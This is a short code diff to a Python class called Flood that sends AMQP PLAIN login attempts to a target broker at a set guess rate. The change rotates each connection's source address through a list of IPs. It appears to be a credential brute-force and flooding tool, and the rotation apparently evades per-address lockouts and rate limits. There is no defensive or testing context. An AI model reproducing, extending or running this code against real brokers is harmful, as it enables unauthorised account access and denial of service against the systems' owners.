@@ -120,7 +120,7 @@ class Flood:
             table = struct.pack(">I", 0) + b"\x05PLAIN" + struct.pack(">I", len(answer)) + answer + b"\x05en_US"
             body = struct.pack(">HH", 10, 11) + table
             try:
-                with socket.create_connection(self.targets["amqp"], timeout=5) as stream:
+                with socket.create_connection(self.targets["amqp"], timeout=5, source_address=(ADDRESSES[number % len(ADDRESSES)], 0)) as stream:
                     stream.sendall(b"AMQP\0\0\x09\x01" + struct.pack(">BHI", 1, 0, len(body)) + body + b"\xce")
                     time.sleep(1 / GUESSES_A_SECOND)
                     self.guesses += 1
